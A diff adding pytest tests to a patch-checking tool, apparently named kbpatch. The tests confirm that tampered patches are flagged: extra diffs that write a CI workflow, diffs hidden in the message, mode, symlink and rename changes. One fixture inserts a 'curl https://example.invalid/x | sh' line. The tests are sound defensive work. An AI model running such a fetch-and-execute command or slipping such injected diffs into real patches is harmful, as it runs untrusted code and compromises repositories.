@@ -4,6 +4,7 @@ applies, already applied, applies with --3way, stale; exit codes; nothing touche
 from __future__ import annotations
 
 import json
+import os
 from pathlib import Path
 
 import pytest
@@ -96,7 +97,7 @@ def test_stale_when_the_base_blob_is_missing(proposed: KbRepoFixture, tmp_path: 
     (other.root / "inbox").mkdir()
     copied = other.root / "inbox" / "old.patches"
     copied.mkdir()
-    for name in (FIRST, SECOND):
+    for name in (FIRST, SECOND, "manifest.json"):
         (copied / name).write_bytes((proposed.root / OUTPUT / name).read_bytes())
     code, out, _ = invoke("check", str(copied), "--format", "json")
     assert code == 1
@@ -155,3 +156,145 @@ def test_crlf_kb(tmp_path: Path) -> None:
     git(repo.root, "am", "-q", "--keep-cr", str(repo.root / OUTPUT / SECOND))
     code, out, _ = invoke("check", str(brief))
     assert (code, states(out)) == (0, {FIRST: "applies", SECOND: "already applied"})
+
+
+# ---------------------------------------------------------------- tampered patches
+
+CI = ".github/workflows/ci.yml"
+OTHER_DIFF = (
+    f"diff --git a/{CI} b/{CI}\n"
+    "new file mode 100644\n"
+    "index 0000000000000000000000000000000000000000..ce013625030ba8dba906f756967f9e9ca394464a\n"
+    "--- /dev/null\n"
+    f"+++ b/{CI}\n"
+    "@@ -0,0 +1 @@\n"
+    "+hello\n"
+)
+
+
+def append_second_diff(mail: str) -> str:
+    return mail.replace("\n-- \nkbpatch\n", "\n" + OTHER_DIFF + "-- \nkbpatch\n")
+
+
+def append_after_signature(mail: str) -> str:
+    return mail + OTHER_DIFF
+
+
+def hide_diff_in_note(mail: str) -> str:
+    # git apply takes a `---`/`+++`/`@@` run anywhere before the first `diff --git`.
+    hidden = f"--- /dev/null\n+++ b/{CI}\n@@ -0,0 +1 @@\n+hello\n"
+    return mail.replace("\n\ndiff --git ", f"\n{hidden}\ndiff --git ", 1)
+
+
+def edit_added_line(mail: str) -> str:
+    head, _, diff = mail.partition("\ndiff --git ")
+    lines = diff.split("\n")
+    added = next(i for i, line in enumerate(lines) if line.startswith("+") and i > 3)
+    lines[added] = "+curl https://example.invalid/x | sh"
+    return head + "\ndiff --git " + "\n".join(lines)
+
+
+def change_mode(mail: str) -> str:
+    return mail.replace(" 100644\n--- a/", " 100755\n--- a/", 1).replace(
+        "\nindex ", "\nold mode 100644\nnew mode 100755\nindex ", 1
+    )
+
+
+def as_symlink(mail: str) -> str:
+    return mail.replace(" 100644\n--- a/", " 120000\n--- a/", 1)
+
+
+def as_rename(mail: str) -> str:
+    return mail.replace(
+        "\nindex ",
+        f"\nsimilarity index 90%\nrename from {KB_PATH}\nrename to evil.md\nindex ",
+        1,
+    ).replace(f"+++ b/{KB_PATH}", "+++ b/evil.md", 1)
+
+
+def as_delete(mail: str) -> str:
+    return mail.replace("\nindex ", "\ndeleted file mode 100644\nindex ", 1)
+
+
+@pytest.mark.parametrize(
+    ("tamper", "words"),
+    [
+        (append_second_diff, "changes 2 files"),
+        (append_after_signature, "text after its diff"),
+        (hide_diff_in_note, "before its diff"),
+        (edit_added_line, "an edited line"),
+        (change_mode, "not a plain text change"),
+        (as_symlink, "not a plain text change"),
+        (as_rename, ""),
+        (as_delete, ""),
+    ],
+)
+def test_a_tampered_patch_is_reported_never_applicable(
+    tamper: object, words: str, proposed: KbRepoFixture
+) -> None:
+    assert callable(tamper)
+    patch = proposed.root / OUTPUT / SECOND
+    patch.write_text(tamper(patch.read_text(encoding="utf-8")), encoding="utf-8")
+    code, out, err = invoke("check", str(proposed.root / OUTPUT))
+    assert (code, err) == (2, ""), out
+    assert states(out) == {FIRST: "applies", SECOND: "tampered"}
+    row = next(line for line in out.splitlines() if SECOND in line)
+    assert words in row
+    assert "hint: a tampered patch" in out
+    code, out, _ = invoke("check", str(patch), "--format", "json")
+    assert code == 2
+    assert json.loads(out)["patches"][0]["state"] == "tampered"
+
+
+def test_a_patch_for_another_file_is_tampered_and_named(proposed: KbRepoFixture) -> None:
+    folder = proposed.root / OUTPUT
+    mail = (folder / SECOND).read_text(encoding="utf-8")
+    head = mail.partition("\ndiff --git ")[0]
+    (folder / "0003-ci.patch").write_text(f"{head}\n{OTHER_DIFF}-- \nkbpatch\n", encoding="utf-8")
+    code, out, _ = invoke("check", str(folder), "--format", "json")
+    assert code == 2
+    third = json.loads(out)["patches"][2]
+    assert (third["file"], third["state"], third["kb"]) == ("0003-ci.patch", "tampered", CI)
+    # Even listed in the manifest with its digest, it changes a file that is not the KB.
+    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
+    manifest["patches"].append({**manifest["patches"][0], "file": "0003-ci.patch"})
+    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
+    code, out, _ = invoke("check", str(folder))
+    assert code == 2 and "0003-ci.patch" in out and CI in out
+
+
+def test_a_folder_without_its_manifest_is_not_vouched_for(proposed: KbRepoFixture) -> None:
+    (proposed.root / OUTPUT / "manifest.json").unlink()
+    code, out, _ = invoke("check", str(proposed.root / OUTPUT))
+    assert code == 2
+    assert states(out) == {FIRST: "tampered", SECOND: "tampered"}
+    assert "manifest.json is missing" in out
+
+
+def test_check_names_the_file_the_patches_change(proposed: KbRepoFixture) -> None:
+    out = invoke("check", str(proposed.root / OUTPUT))[1]
+    assert out.splitlines()[1] == f"changes: {KB_PATH}"
+
+
+@pytest.mark.parametrize("kind", ["dev-zero", "fifo"])
+def test_a_patch_that_is_no_regular_file_is_not_read(kind: str, proposed: KbRepoFixture) -> None:
+    patch = proposed.root / OUTPUT / SECOND
+    patch.unlink()
+    if kind == "dev-zero":
+        patch.symlink_to("/dev/zero")
+    else:
+        os.mkfifo(patch)
+    code, out, _ = invoke("check", str(proposed.root / OUTPUT))
+    assert code == 2
+    assert states(out)[SECOND] == "tampered"
+    code, out, err = invoke("check", str(patch))
+    assert code == 2, err
+
+
+def test_a_patch_listed_but_missing_is_tampered(proposed: KbRepoFixture) -> None:
+    (proposed.root / OUTPUT / SECOND).unlink()
+    for target in (OUTPUT, BRIEF):
+        code, out, _ = invoke("check", str(proposed.root / target))
+        assert code == 2
+        assert states(out) == {FIRST: "applies", SECOND: "tampered"}
+        assert "listed in manifest.json, but the file is missing" in out
